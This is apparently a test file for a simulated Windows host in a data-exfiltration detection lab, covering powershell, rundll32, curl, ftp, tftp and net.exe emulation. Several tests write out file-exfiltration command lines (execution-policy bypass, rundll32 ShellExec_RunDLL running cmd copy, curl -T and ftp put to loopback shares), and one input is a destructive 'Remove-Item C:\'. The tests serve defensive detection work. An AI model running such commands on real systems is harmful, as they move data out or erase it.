import { readdir, readFile } from 'node:fs/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { programs } from '../../../../src/simulator/programs/index.js';
import { scriptsFolder } from '../../../../src/simulator/programs/staged/scripts.js';
import { testTracer } from '../../../helpers/sink-lab.js';
import { bench, type Bench } from '../host/bench.js';

let host: Bench;
beforeEach(async () => {
  host = await bench('127.0.1.63');
});
afterEach(() => host.close());

const tracer = testTracer('programs', 2000);
const home = 'C:\\Users\\lab';

it('the registry of programs equals their folder', async () => {
  const folder = new URL('../../../../src/simulator/programs/', import.meta.url);
  const files = (await readdir(folder)).filter((name) => name.endsWith('.ts') && name !== 'index.ts');
  expect(files.map((name) => name.slice(0, -'.ts'.length)).sort()).toEqual([...programs.names].sort());
  for (const [name, program] of programs.entries()) expect(program.file).toBe(`${name}.exe`);
});

describe('powershell.exe -File', () => {
  const script = (name: string): Promise<Buffer> => readFile(new URL(name, scriptsFolder));
  const powershell = (args: string) =>
    host.cmd(`powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${args}`);

  it('refuses what is no tracer, with exit code 2, before anything is sent', async () => {
    await host.write(`${home}\\s.ps1`, await script('Copy-TracerSmb.ps1'));
    await host.write(`${home}\\secret.txt`, 'payroll');
    const ran = await powershell('s.ps1 -Path secret.txt -Destination \\\\127.0.2.1\\drop\\f');
    expect(ran.exitCode).toBe(2);
    expect(JSON.parse(ran.stdout)).toMatchObject({
      ok: false,
      bytes: 0,
      error: 'secret.txt is no Dyetrace tracer: refused',
    });
    expect(host.shares.size).toBe(0);
    expect(host.activities.some((one) => one.kind === 'module-logged' && one.command === 'Copy-Item')).toBe(
      false,
    );
  });

  it('copies a tracer, prints its own PID, and logs script and cmdlets', async () => {
    const text = await script('Copy-TracerSmb.ps1');
    await host.write(`${home}\\dk3f9q2x.ps1`, text);
    await host.write(`${home}\\t.dat`, tracer.bytes);
    const ran = await powershell('dk3f9q2x.ps1 -Path t.dat -Destination \\\\127.0.2.1\\drop\\f.dat');
    const result = JSON.parse(ran.stdout) as { pid: number };
    expect(ran).toMatchObject({ exitCode: 0, stderr: '' });
    expect(result).toMatchObject({ ok: true, bytes: 2000, error: null });
    const process = host.activities.flatMap((one) =>
      one.kind === 'process-started' && one.process.pid === result.pid ? [one.process] : [],
    )[0];
    expect(process?.image).toBe('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
    expect(host.shares.has('\\\\127.0.2.1\\drop\\f.dat')).toBe(true);
    expect(host.activities.find((one) => one.kind === 'script-block')).toMatchObject({
      process,
      text: text.toString('utf8'),
      path: `${home}\\dk3f9q2x.ps1`,
    });
    const logged = host.activities.flatMap((one) =>
      one.kind === 'module-logged' ? [[one.command, one.parameters]] : [],
    );
    expect(logged).toContainEqual([
      'Copy-Item',
      { LiteralPath: 't.dat', Destination: '\\\\127.0.2.1\\drop\\f.dat' },
    ]);
    for (const [command] of logged) expect(text.toString('utf8')).toContain(command);
  });

  it('does not run what is none of the library’s scripts', async () => {
    await host.write(`${home}\\other.ps1`, 'Remove-Item C:\\');
    const ran = await powershell('other.ps1');
    expect(ran).toMatchObject({ exitCode: 1, stdout: '' });
    expect(ran.stderr).toContain('none of them');
    expect((await powershell('missing.ps1')).stderr).toContain('-File parameter does not exist');
  });

  it('binds parameters by name, cut short, in any case, and says which are missing', async () => {
    await host.write(`${home}\\s.ps1`, await script('Copy-TracerSmb.ps1'));
    await host.write(`${home}\\t.dat`, tracer.bytes);
    expect((await powershell('s.ps1 -DEST \\\\127.0.2.1\\drop\\f -pat t.dat')).exitCode).toBe(0);
    expect((await powershell('s.ps1 -Path t.dat')).stderr).toContain(
      'missing mandatory parameters: Destination',
    );
    expect((await powershell('s.ps1 -p t.dat')).stderr).toContain('Possible matches include: -Path -PauseM');
    expect((await powershell('s.ps1 t.dat \\\\127.0.2.1\\drop\\f -Pause never')).stderr).toContain(
      "Cannot validate argument on parameter 'PauseMilliseconds'",
    );
    expect((await powershell('s.ps1 -Nothing t.dat')).stderr).toContain("parameter name 'Nothing'");
  });
});

describe('rundll32.exe', () => {
  const standIn = 'Dyetrace tracer DLL stand-in\r\n';
  const upload = `protocol=smb name=\\\\127.0.2.1\\drop\\f.dat path=${home}\\t.dat result=${home}\\r.json`;

  it.each([
    ['the stand-in', standIn],
    ['the DLL itself', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600), Buffer.from('UploadW\0')])],
  ])('performs Upload of %s, and writes its result', async (_, content) => {
    await host.write(`${home}\\x.dll`, content);
    await host.write(`${home}\\t.dat`, tracer.bytes);
    expect(await host.cmd(`rundll32.exe ${home}\\x.dll,Upload ${upload}`)).toEqual({
      exitCode: 0,
      stdout: '',
      stderr: '',
    });
    expect(await host.read(`${home}\\r.json`)).toBe(
      '{"ok":true,"protocol":"smb","bytes":2000,"files":1,"error":null,"code":0}\n',
    );
    expect(host.shares.has('\\\\127.0.2.1\\drop\\f.dat')).toBe(true);
  });

  it('refuses what is no tracer, says so in its result, and ends with 0 all the same', async () => {
    await host.write(`${home}\\x.dll`, standIn);
    await host.write(`${home}\\t.dat`, 'payroll');
    expect((await host.cmd(`rundll32.exe "${home}\\x.dll",Upload ${upload}`)).exitCode).toBe(0);
    // 13: ERROR_INVALID_DATA
    expect(JSON.parse(await host.read(`${home}\\r.json`))).toEqual({
      ok: false,
      protocol: 'smb',
      bytes: 0,
      files: 0,
      error: 'not a tracer: refused',
      code: 13,
    });
    expect(host.shares.size).toBe(0);
  });

  it('does not overwrite a result that is there', async () => {
    await host.write(`${home}\\x.dll`, standIn);
    await host.write(`${home}\\t.dat`, tracer.bytes);
    await host.write(`${home}\\r.json`, 'not ours');
    await host.cmd(`rundll32.exe ${home}\\x.dll,Upload ${upload}`);
    expect(await host.read(`${home}\\r.json`)).toBe('not ours');
  });

  it.each([
    ['another DLL', 'MZ another', 'Upload'],
    ['the name of the W function', standIn, 'UploadW'],
    ['another entry', standIn, 'DllMain'],
  ])('calls nothing of %s, and ends with 0', async (_, content, entry) => {
    await host.write(`${home}\\x.dll`, content);
    await host.write(`${home}\\t.dat`, tracer.bytes);
    expect((await host.cmd(`rundll32.exe ${home}\\x.dll,${entry} ${upload}`)).exitCode).toBe(0);
    expect(host.shares.size).toBe(0);
  });

  it('ShellExec_RunDLL returns at once; its child goes on, and stays its child', async () => {
    await host.write(`${home}\\t.dat`, tracer.bytes);
    await host.cmd(
      `rundll32.exe shell32.dll,ShellExec_RunDLL cmd.exe /d /c "copy /b /y t.dat \\\\127.0.2.1\\drop\\f.dat"`,
    );
    await expect.poll(() => host.shares.size).toBe(1);
    const copying = host.activities.flatMap((one) =>
      one.kind === 'process-started' &&
      one.process.commandLine.includes('/d /c') &&
      one.process.image.endsWith('cmd.exe')
        ? [one.process]
        : [],
    );
    expect(copying.at(-1)?.parent?.image).toBe('C:\\Windows\\System32\\rundll32.exe');
    expect(copying.at(-1)?.commandLine).toMatch(/^"C:\\Windows\\System32\\cmd\.exe" \/d \/c "copy/);
  });
});

describe('curl.exe', () => {
  it.each([
    ['--nonsense ftp://127.0.0.1/', 2, 'option --nonsense: is unknown'],
    ['-T', 2, 'requires parameter'],
    ['-s -S', 2, 'no URL'],
    ['-T missing.dat ftp://127.0.0.1:9/', 26, "Can't open 'missing.dat'"],
    ['-T t.dat http://127.0.0.1/', 1, 'Protocol "http" not supported'],
    ['-T t.dat nonsense', 3, 'bad/illegal format'],
    ['-T t.dat ftp://127.0.2.63:9/', 7, 'ECONNREFUSED'],
    ['-T t.dat ftp://192.0.2.1/', 7, 'loopback addresses only'],
  ])('%s ends with %i', async (args, exitCode, words) => {
    await host.write(`${home}\\t.dat`, tracer.bytes);
    const ran = await host.cmd(`curl.exe ${args}`);
    expect(ran.exitCode).toBe(exitCode);
    expect(ran.stderr).toContain(words);
  });

  it('is silent with -s, and not with -sS', async () => {
    await host.write(`${home}\\t.dat`, tracer.bytes);
    expect(await host.cmd('curl.exe -s -T t.dat ftp://127.0.2.63:9/')).toEqual({
      exitCode: 7,
      stdout: '',
      stderr: '',
    });
    expect((await host.cmd('curl.exe -sS -T t.dat ftp://127.0.2.63:9/')).stderr).toMatch(/^curl: \(7\) /);
  });
});

describe('other programs', () => {
  it('ftp.exe ends with 0 even where nobody listens', async () => {
    await host.write(`${home}\\s.txt`, 'open 127.0.2.63 9\r\nuser u p\r\nput t.dat\r\nquit\r\n');
    const ran = await host.cmd('ftp.exe -n -s:s.txt');
    expect(ran.exitCode).toBe(0);
    expect(ran.stdout).toContain('> ftp: connect :');
    expect(ran.stdout).toContain('Not connected.');
  });

  it('tftp.exe ends with 1 where it fails, and shows its usage', async () => {
    expect((await host.cmd('tftp.exe -i 127.0.2.63 PUT missing.dat')).exitCode).toBe(1);
    expect((await host.cmd('tftp.exe')).stdout).toContain('TFTP [-i] host [GET | PUT]');
  });

  it('wevtutil.exe is answered by the event store', async () => {
    expect((await host.cmd('wevtutil.exe qe Security "/q:*[System]" /f:RenderedXml')).stdout).toBe(
      'events for qe Security /q:*[System] /f:RenderedXml\r\n',
    );
  });

  it('the firewall’s rules answer the prerequisites of active FTP and of TFTP', async () => {
    for (const program of ['ftp.exe', 'tftp.exe']) {
      const check = `netsh advfirewall firewall show rule name=all dir=in | findstr /i ${program}`;
      expect((await host.cmd(check)).exitCode).toBe(0);
    }
    expect(
      (await host.cmd('netsh advfirewall firewall show rule name=all | findstr /i nothing.exe')).exitCode,
    ).toBe(1);
  });

  it('net use of what is no share, and of a connection that is not there', async () => {
    expect(await host.cmd('net.exe use \\\\server /user:u *', 'p\r\n')).toMatchObject({ exitCode: 2 });
    expect((await host.cmd('net.exe use \\\\127.0.2.1\\drop /delete /y')).stderr).toContain(
      'System error 2250',
    );
    expect((await host.cmd('net.exe use \\\\127.0.2.1\\drop /user:u *', 'p\r\n')).stdout).toBe(
      'Type the password for \\\\127.0.2.1\\drop: \r\nThe command completed successfully.\r\n\r\n',
    );
  });

  it('taskkill.exe ends a tree by PID', async () => {
    const { processes } = host.machine;
    const running = processes.start(
      {
        parent: processes.sshd,
        image: 'C:\\x.exe',
        originalFileName: 'x.exe',
        commandLine: 'x.exe',
        directory: 'C:\\',
      },
      (_, signal) => new Promise((resolve) => signal.addEventListener('abort', () => resolve(0))),
    );
    expect((await host.cmd(`taskkill.exe /F /T /PID ${running.process.pid}`)).exitCode).toBe(0);
    expect(await running.ended).toBe(1);
    expect((await host.cmd(`taskkill.exe /F /PID ${running.process.pid}`)).exitCode).toBe(128);
  });
});
